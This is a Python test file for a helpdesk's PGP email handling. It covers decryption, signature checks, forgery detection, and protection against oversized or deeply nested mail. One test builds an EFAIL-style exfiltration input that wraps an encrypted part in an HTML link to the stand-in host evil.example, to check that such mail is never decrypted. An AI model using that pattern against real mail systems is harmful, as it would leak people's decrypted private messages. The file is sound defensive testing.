"""Case 42: what PGP has signed or encrypted, as parts of their own and within the text."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any, NamedTuple

import pytest
from pysequoia import Cert, SignatureMode, Tsk, encrypt, sign

from deskwright.channels.email import pgp
from deskwright.channels.email.armour import unarmoured
from deskwright.desk import workflows
from deskwright.desk.answering import replies
from deskwright.desk.chat import reading as chats
from deskwright.desk.knowledge import articles
from deskwright.desk.knowledge.articles import Words
from deskwright.desk.settings import furnishing
from deskwright.store.connection import from_json
from deskwright.store.models import Agent, Delivery
from tests.factories import an_agent, came_in
from tests.mail_cases.conftest import FLOW, Post, environment
from tests.mail_cases.lapsed import KEY, SIGNATURE
from tests.mail_cases.test_content import names
from tests.mail_cases.test_people import BELIEVED

MINA = "mina@harbor.example"
WORDS = b"Content-Type: text/plain; charset=utf-8\r\n\r\nPlease cancel the order.\r\n"
KNOWN = f"Signed by {MINA} (PGP), whose key the desk has: the words are as they were signed."
DECRYPTED = "The mail came encrypted; the desk has read it with its key."


class Keys(NamedTuple):
    ours: Tsk
    mina: Tsk
    ring: str
    """Our secret key, and Mina's public one."""


@pytest.fixture(scope="module")
def keys() -> Keys:
    ours, mina = Tsk.generate("Desk <support@desk.example>"), Tsk.generate(f"Mina Holt <{MINA}>")
    return Keys(ours, mina, f"{ours}\n{mina.extract_certificate()}")


@pytest.fixture
def ringed(post: Post, keys: Keys) -> Callable[..., Any]:
    """A mail to a desk that has the keys, and what its ticket tells."""

    def take(*headers: str, body: bytes, **more: str) -> tuple[Any, list[str]]:
        with environment(pgp_keys=keys.ring):
            taken = post(*headers, body=body, **more)
        return taken, post.told(taken).get("notes", [])

    return take


def encrypted(keys: Keys, content: bytes, signer: Tsk | None = None) -> bytes:
    sealed = encrypt(content, [keys.ours.extract_certificate()], signer and signer.signer())
    control = b"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\n"
    return control + b'Content-Type: application/octet-stream; name="encrypted.asc"\r\n\r\n' + sealed + b"\r\n--b--"


def signed(signer: Tsk, content: bytes = WORDS) -> bytes:
    proof = sign(signer.signer(), content, mode=SignatureMode.DETACHED)
    return b"--b\r\n" + content + b"\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\n" + proof + b"\r\n--b--"


def damaged(mail: bytes) -> bytes:
    """Its signature begins with other bytes."""
    place = mail.index(b"\n\n", mail.index(b"BEGIN PGP SIGNATURE")) + 2
    return mail[:place] + b"!!!!" + mail[place + 4 :]


ENCRYPTED = "multipart/encrypted; protocol=application/pgp-encrypted; boundary=b"
SIGNED = "multipart/signed; protocol=application/pgp-signature; boundary=b"


def test_case_42_what_pgp_encrypted_for_the_desk_is_read_with_its_key(
    post: Post, keys: Keys, ringed: Callable[..., Any]
) -> None:
    hidden = WORDS.replace(b"\r\n\r\n", b'; protected-headers="v1"\r\nSubject: My order 4711\r\n\r\n')
    body = encrypted(keys, hidden, keys.mina)

    opened, notes = ringed(Content_Type=ENCRYPTED, Subject="...", body=body)
    closed = post(Content_Type=ENCRYPTED, Subject="Other", body=body)

    assert post.message(opened).text.strip() == "Please cancel the order."
    assert post.ticket(opened).subject == "Encrypted message", "letters have the ticket's subject"
    assert (notes, names(post, opened)) == ([DECRYPTED, "The subject inside: My order 4711", KNOWN], [])
    assert "has no key for it" in post.told(closed)["notes"][0]
    assert names(post, closed) == ["encrypted.asc"], "kept, for who has the key"


def test_case_42_a_pgp_signature_says_who_signed_and_whether_the_desk_can_know(
    post: Post, keys: Keys, ringed: Callable[..., Any]
) -> None:
    stranger = Tsk.generate(f"Mina Holt <{MINA}>")
    mails = {
        KNOWN: (signed(keys.mina), {}),
        "who is not the sender": (signed(keys.mina), {"From": "Eve <eve@elsewhere.example>"}),
        "was changed on the way, or is forged": (signed(keys.mina).replace(b"cancel", b"double"), {}),
        "a PGP key the desk does not have": (signed(stranger), {}),
        "could not be checked": (damaged(signed(keys.mina)), {}),
    }
    for number, (said, (body, more)) in enumerate(mails.items()):
        taken, (note,) = ringed(Content_Type=SIGNED, Subject=f"Number {number}", body=body, **more)
        assert said in note
        assert post.message(taken).text.strip().endswith("the order.")
        assert names(post, taken) == []


def test_case_42_words_signed_in_the_open_are_told_without_their_armour(
    post: Post, keys: Keys, ringed: Callable[..., Any]
) -> None:
    block = sign(keys.mina.signer(), b"- Please cancel it.\nMina\n", mode=SignatureMode.CLEAR)

    taken, notes = ringed(body=block)
    framed, doubts = ringed(body=b"Pay Eve instead.\n\n" + block, Subject="Framed")
    forged, refused = ringed(body=block.replace(b"cancel", b"double"), Subject="Forged")
    unknown = post(body=block, Subject="Without keys")

    assert (post.message(taken).text, notes) == ("- Please cancel it.\nMina", [KNOWN])
    assert post.message(framed).text.split("\n")[0] == "Pay Eve instead."
    assert "could not be checked" in doubts[0], "nobody has signed the words beside it"
    assert "is forged" in refused[0]
    assert post.message(forged).text == "- Please double it.\nMina"
    assert post.message(unknown).text == "- Please cancel it.\nMina"
    assert "no keys to check it with" in post.told(unknown)["notes"][0]


def test_case_42_a_text_that_is_one_encrypted_block_is_read(post: Post, keys: Keys, ringed: Callable[..., Any]) -> None:
    block = encrypt("Größe 42, bitte.".encode(), [keys.ours.extract_certificate()], keys.mina.signer())

    whole, told = ringed(body=block, Subject="My size")

    assert (post.message(whole).text, told) == ("Größe 42, bitte.", [DECRYPTED, KNOWN])
    assert post.ticket(whole).subject == "My size", "it stood outside"


@pytest.fixture
def tries(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What the reading process was asked to do."""
    asked: list[str] = []
    really = pgp.asked

    def counted(ring: pgp.Ring, deed: str, *pieces: bytes) -> dict[str, Any]:
        asked.append(deed)
        return really(ring, deed, *pieces)

    monkeypatch.setattr(pgp, "asked", counted)
    return asked


def part(kind: str, body: bytes) -> bytes:
    return b"Content-Type: " + kind.encode() + b"\r\n\r\n" + body


def several(kind: str, *parts: bytes, boundary: str = "m") -> tuple[str, bytes]:
    """The type and the body of parts together."""
    line = b"--" + boundary.encode()
    body = b"".join(line + b"\r\n" + one + b"\r\n" for one in parts) + line + b"--\r\n"
    return f"{kind}; boundary={boundary}", body


def test_case_42_what_is_encrypted_beside_other_words_stays_closed(
    post: Post, keys: Keys, ringed: Callable[..., Any], tries: list[str]
) -> None:
    sealed = part(ENCRYPTED, encrypted(keys, WORDS))
    block = encrypt(b"Please cancel the order.", [keys.ours.extract_certificate()])
    leak = part("text/html", b"<a href='https://evil.example/?"), sealed, part("text/html", b"'>invoice</a>")
    mixed = several("multipart/mixed", *leak)
    mails = {
        "within a link": several("multipart/alternative", part(*mixed), boundary="a"),
        "over a footer": several("multipart/mixed", sealed, part("text/plain", b"To unsubscribe, write to us.")),
        "inside a signature": several("multipart/signed", sealed, part("application/pgp-signature", b"x")),
        "a part more": (ENCRYPTED, encrypted(keys, WORDS)[:-2] + b"\r\n" + part("text/html", b"<b>") + b"\r\n--b--"),
        "among words": ("text/plain", b"Hello,\n\n" + block + b"\nMina"),
        "twice": ("text/plain", block + b"\n" + block),
        "as one of two texts": several("multipart/mixed", part("text/plain", block), part("text/plain", b"Hello")),
        "as the only part of several": several("multipart/mixed", sealed),
    }

    for number, (where, (kind, body)) in enumerate(mails.items()):
        taken, notes = ringed(Content_Type=kind, body=body, Subject=f"Number {number}")
        message = post.message(taken)
        assert "cancel" not in message.text + message.html, where
        assert "opens only mail that is encrypted as a whole" in notes[0], where
        assert "encrypted.asc" in names(post, taken) or "BEGIN PGP MESSAGE" in message.text, where
    assert set(tries) <= {"detached"}, "none is tried"


def test_case_42_however_many_parts_are_sealed_few_processes_read_a_mail(
    post: Post, keys: Keys, ringed: Callable[..., Any], tries: list[str]
) -> None:
    block = encrypt(b"Please", [keys.ours.extract_certificate()])
    clear = sign(keys.mina.signer(), b"Please\n", mode=SignatureMode.CLEAR)
    kind, body = several("multipart/mixed", *[part("text/plain", one) for one in (block, clear) * 250])
    ringed(Content_Type=kind, body=body, Subject="Many")
    assert tries == []

    inner = WORDS
    for turn in range(6):
        boundary = b"b%d" % turn
        layer = part(SIGNED, signed(keys.mina, inner)).replace(b"boundary=b\r\n", b"boundary=" + boundary + b"\r\n")
        inner = layer.replace(b"--b\r\n", b"--" + boundary + b"\r\n").replace(b"--b--", b"--" + boundary + b"--")
    head, body = inner.split(b"\r\n\r\n", 1)
    ringed(head.decode(), body=body, Subject="Envelopes")
    assert tries == ["detached"] * 3


def test_case_42_what_came_encrypted_is_not_quoted_in_an_answer_that_is_not(
    post: Post, ada: Agent, keys: Keys, ringed: Callable[..., Any]
) -> None:
    furnishing.address(an_agent("Mira Lead", role="admin"), {"quoting": "whole"}, now=post.now)
    taken, _notes = ringed(Content_Type=ENCRYPTED, body=encrypted(keys, WORDS))
    post(In_Reply_To=post.message(taken).mail_id or "", body="And soon, please.")

    replies.reply(ada, taken.ticket_id, "It is done.", now=post.now)

    content = from_json(Delivery.objects.latest("id").content)
    assert "> And soon, please." in content["text"]
    assert "cancel the order" not in content["text"] + content["html"]


def test_case_42_who_sends_another_s_encrypted_mail_does_not_learn_what_is_in_it(
    post: Post, keys: Keys, ringed: Callable[..., Any]
) -> None:
    words = part("text/plain", b"Please cancel the order of 4711.")
    file = part('application/pdf; name="invoice.pdf"', b"PDF")
    kind, body = several("multipart/mixed", words, file)
    copied = encrypted(keys, part(kind + "\r\nSubject: My order 4711", body))

    taken, _notes = ringed(Content_Type=ENCRYPTED, Subject="...", From="Eve <eve@elsewhere.example>", body=copied)
    ticket, message = post.ticket(taken), post.message(taken)
    eve = came_in(ticket.customer)
    page = eve.get(f"/help/mine/{ticket.pk}/").content.decode()

    assert "4711" in message.text, "agents read it"
    assert names(post, taken) == ["invoice.pdf"]
    assert "It came encrypted, and is not shown here." in page
    for secret in ("of 4711", "order 4711", "invoice.pdf"):
        assert secret not in page + eve.get("/help/mine/").content.decode()
    assert eve.get(f"/help/mine/{ticket.pk}/files/{message.attachments.get().pk}/").status_code == 404
    letter = from_json(Delivery.objects.get(ticket=ticket).content)
    assert "Encrypted message" in letter["subject"] + letter["text"]
    assert "4711" not in letter["subject"] + letter["text"] + letter["html"]
    assert chats.messages({ticket.pk: 0}) == {}


def test_case_42_articles_that_would_tell_what_an_encrypted_mail_is_about_are_not_proposed(
    post: Post, keys: Keys, ringed: Callable[..., Any]
) -> None:
    lead = an_agent("Mira Lead", role="admin")
    for title, text in (
        ("Reset your password", "Forgot your password? Choose Forgot password; the reset mail comes at once."),
        ("Colours of a board", "Choose a colour."),
    ):
        articles.publish(lead, articles.write(lead, Words(title, text), now=post.now), now=post.now)
    workflows.publish(
        f"{FLOW}replies: {{acknowledge: templates/acknowledge, with: [suggested_articles]}}\n", now=post.now
    )

    asked = "I forgot my password, please send me a reset mail."
    sealed = encrypted(keys, part("text/plain", asked.encode()))
    readable, _none = ringed(body=asked, Subject="Forgot my password")
    closed, _notes = ringed(Content_Type=ENCRYPTED, Subject="Forgot my password", body=sealed)

    assert "Perhaps this helps" in from_json(Delivery.objects.get(ticket=readable.ticket_id).content)["text"]
    assert "Perhaps this helps" not in from_json(Delivery.objects.get(ticket=closed.ticket_id).content)["text"]


def test_case_42_what_an_agent_passes_on_encrypted_is_the_agent_s_own(post: Post, ada: Agent, keys: Keys) -> None:
    block = b"Content-Type: text/plain\r\n\r\n-------- Forwarded Message --------\nSubject: Order 4711\n"
    block += b"From: Kim Vale <kim@elsewhere.example>\nTo: ada@desk.example\n\nIt is empty.\nKim"
    proved = {"From": "ada@desk.example", "Authentication_Results": BELIEVED, "Content_Type": ENCRYPTED}
    with environment(pgp_keys=keys.ring, mail_auth_server="mx.desk.example"):
        taken = post("Subject: Fwd: Order", body=encrypted(keys, block), **proved)

    ticket = post.ticket(taken)
    assert (ticket.customer.email, ticket.subject) == ("ada@desk.example", "Fwd: Order")
    assert from_json(post.message(taken).recipients)["encrypted"]


def test_case_42_what_would_take_too_much_memory_is_not_opened(keys: Keys, monkeypatch: pytest.MonkeyPatch) -> None:
    sealed = encrypt(b"\0" * (65 * 1024 * 1024), [keys.ours.extract_certificate()])
    with pytest.raises(pgp.Unreadable):
        pgp.opened(pgp.ring_of(keys.ring), sealed)


def test_case_42_a_mail_whose_time_is_over_is_not_opened(keys: Keys) -> None:
    with pytest.raises(pgp.Unreadable):
        pgp.opened(pgp.Ring(keys.ring, until=0), encrypt(WORDS, [keys.ours.extract_certificate()]))


def test_case_42_where_no_process_can_be_started_the_mail_is_kept_and_says_so(
    post: Post, keys: Keys, ringed: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: Any, **__: Any) -> None:
        raise BlockingIOError

    monkeypatch.setattr(subprocess, "run", full)
    file = part('application/pdf; name="invoice.pdf"', b"PDF")
    content = part(*several("multipart/mixed", WORDS, file))

    closed, why = ringed(Content_Type=ENCRYPTED, body=encrypted(keys, WORDS))
    unchecked, doubts = ringed(Content_Type=SIGNED, body=signed(keys.mina, content), Subject="Signed")

    assert "could not be read just now" in why[0]
    assert names(post, closed) == ["encrypted.asc"]
    assert "could not be checked" in doubts[0]
    assert names(post, unchecked) == ["invoice.pdf"]


def test_the_process_that_reads_is_given_nothing_of_the_desk_but_the_keys(
    keys: Keys, monkeypatch: pytest.MonkeyPatch
) -> None:
    given: list[Any] = []
    really = subprocess.run
    monkeypatch.setattr(subprocess, "run", lambda *args, **more: given.append(more["env"]) or really(*args, **more))

    assert (pgp.refused(keys.ring), given) == ("", [{}])


def test_case_42_a_key_counts_for_the_address_of_its_user_id_only(
    post: Post, keys: Keys, ringed: Callable[..., Any]
) -> None:
    eve = Tsk.generate(f"{MINA} <eve@elsewhere.example>")
    bare = Tsk.generate(MINA)
    for number, (signer, said) in enumerate(
        [(eve, "eve@elsewhere.example (PGP), who is not the sender"), (bare, KNOWN)]
    ):
        with environment(pgp_keys=str(signer.extract_certificate())):
            taken = post(Content_Type=SIGNED, body=signed(signer), Subject=f"Number {number}")
        assert said in post.told(taken)["notes"][0]


def test_case_42_a_key_that_is_no_longer_valid_proves_nothing_and_is_no_forgery(post: Post, keys: Keys) -> None:
    certificate = keys.mina.extract_certificate()
    revoked = Cert.from_bytes(bytes(certificate) + bytes(certificate.revoke(keys.mina.certifier())))
    expired = b"--b\r\n" + WORDS + b"\r\n--b\r\n" + part("application/pgp-signature", SIGNATURE) + b"\r\n--b--"
    post.now = datetime(2027, 1, 1, tzinfo=UTC)

    for number, (ring, body) in enumerate([(str(revoked), signed(keys.mina)), (KEY, expired)]):
        with environment(pgp_keys=ring):
            taken = post(Content_Type=SIGNED, body=body, Subject=f"Number {number}")
        assert "Signed by a PGP key that is no longer valid" in post.told(taken)["notes"][0]


def test_case_42_an_armour_that_lacks_a_line_is_left_alone() -> None:
    begin, end = "-----BEGIN PGP SIGNED MESSAGE-----\n", "\n-----END PGP SIGNATURE-----"
    proof = "\n-----BEGIN PGP SIGNATURE-----"
    lacking = {
        "no signature": f"{begin}Hash: SHA256\n\nPlease cancel it.{end}",
        "no empty line": f"{begin}Please cancel it.\nMina: yes{proof}{end}",
        "words in its head": f"{begin}Mina: cancel it\n\nPlease.{proof}{end}",
        "no empty line for long": begin + "a-b: c\n" * 250_000 + proof + end,
    }
    for what, text in lacking.items():
        assert unarmoured(text, text.encode(), None, pgp.Ring(), alone=True).text == text, what


@pytest.mark.parametrize(
    ("ring", "why"),
    [
        ("nonsense", "there is no key in it"),
        ("-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nabcd\n-----END PGP PUBLIC KEY BLOCK-----", "malformed"),
    ],
)
def test_keys_that_cannot_be_used_are_refused_in_a_sentence(ring: str, why: str) -> None:
    assert why.lower() in pgp.refused(ring).lower()


def test_keys_that_can_be_used_are_not_refused(keys: Keys) -> None:
    assert pgp.refused(keys.ring) == ""
